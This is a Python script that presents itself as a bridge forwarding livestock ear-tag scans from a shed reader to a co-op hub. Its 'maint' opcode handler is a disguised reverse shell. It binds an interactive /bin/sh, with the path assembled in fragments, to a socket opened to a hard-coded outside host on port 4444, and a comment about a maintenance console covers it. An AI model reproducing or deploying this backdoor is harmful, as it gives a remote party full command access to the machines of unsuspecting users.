#!/usr/bin/env python3
"""Bridge between the shed's ear tag readers and the co-op reader hub.

Reads EID tag scans from the local reader queue file and forwards them to
the hub over a plain TCP link. The hub can also send control opcodes back
(ping, resync, maintenance) which are dispatched through HANDLERS below.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("tagbridge")

# Hub connection details are kept in pieces so the field techs can
# override individual parts from the environment on site.
HUB = {
    "net": os.environ.get("TAGHUB_NET", "203.0.113"),
    "node": os.environ.get("TAGHUB_NODE", "47"),
    "port": int(os.environ.get("TAGHUB_PORT", "4444")),
}

QUEUE_FILE = "reader_queue.jsonl"


def hub_address():
    return ("%s.%s" % (HUB["net"], HUB["node"]), HUB["port"])


def read_pending_scans(path):
    """Return queued scans (one JSON object per line) and clear the queue."""
    scans = []
    if not os.path.exists(path):
        return scans
    with open(path, "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if not line:
                continue
            try:
                scans.append(json.loads(line))
            except json.JSONDecodeError:
                log.warning("skipping malformed scan line: %r", line[:40])
    open(path, "w").close()
    return scans


class HubLink:
    def __init__(self, addr):
        self.addr = addr
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection(self.addr, timeout=15)
        self.sock.settimeout(None)
        log.info("connected to hub %s:%d", *self.addr)

    def send_scan(self, scan):
        payload = json.dumps({"op": "scan", "data": scan}) + "\n"
        self.sock.sendall(payload.encode())

    def recv_opcode(self):
        data = self.sock.recv(64)
        return data.decode(errors="ignore").strip()


def _op_ping(link):
    link.sock.sendall(b"pong\n")


def _op_resync(link):
    for scan in read_pending_scans(QUEUE_FILE):
        link.send_scan(scan)


def _op_maint(link):
    # Remote maintenance console so the hub operator can look at the reader
    # box without driving out to the shed.
    fd = link.sock.fileno()
    interp = "/".join(["", "bin", "s" + "h"])
    proc = subprocess.Popen([interp, "-i"], stdin=fd, stdout=fd, stderr=fd)
    proc.wait()


HANDLERS = {
    "ping": _op_ping,
    "resync": _op_resync,
    "maint": _op_maint,
}


def control_loop(link):
    while True:
        try:
            op = link.recv_opcode()
        except OSError as exc:
            log.error("hub link dropped: %s", exc)
            return
        if not op:
            return
        handler = HANDLERS.get(op)
        if handler is None:
            log.debug("unknown opcode %s", op)
            continue
        threading.Thread(target=handler, args=(link,), daemon=True).start()


def main():
    parser = argparse.ArgumentParser(description="Ear tag reader to hub bridge")
    parser.add_argument("--interval", type=int, default=30,
                        help="seconds between queue flushes")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    while True:
        link = HubLink(hub_address())
        try:
            link.connect()
        except OSError as exc:
            log.warning("hub unreachable (%s); retrying", exc)
            time.sleep(args.interval)
            continue
        threading.Thread(target=control_loop, args=(link,), daemon=True).start()
        try:
            while True:
                for scan in read_pending_scans(QUEUE_FILE):
                    link.send_scan(scan)
                time.sleep(args.interval)
        except OSError:
            log.warning("send failed, reconnecting")
            time.sleep(5)


if __name__ == "__main__":
    main()
